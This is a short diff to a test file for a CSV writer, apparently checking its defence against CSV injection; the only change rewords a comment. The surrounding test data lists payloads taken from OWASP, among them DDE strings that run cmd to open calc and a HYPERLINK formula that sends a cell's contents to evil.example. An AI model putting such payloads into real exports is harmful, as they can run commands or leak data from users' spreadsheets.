@@ -111,7 +111,7 @@ test.each([
   expect(csvLine([cell])).toBe(`${written}\r\n`);
 });
 
-/** From OWASP's page about CSV injection and from published lists of attacks. */
+/** Examples from OWASP's page about CSV injection and from published lists of attacks. */
 const formulas = ['=1+1', '+1+1', '-1+1', '+919876543210', '+91 98765=1+1', ';=cmd'];
 const commands = ["@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"];
 const calls = ["%0A-3+3+cmd|' /C calc'!D2\n-1", '=HYPERLINK("http://evil.example?x="&A1,"here")'];
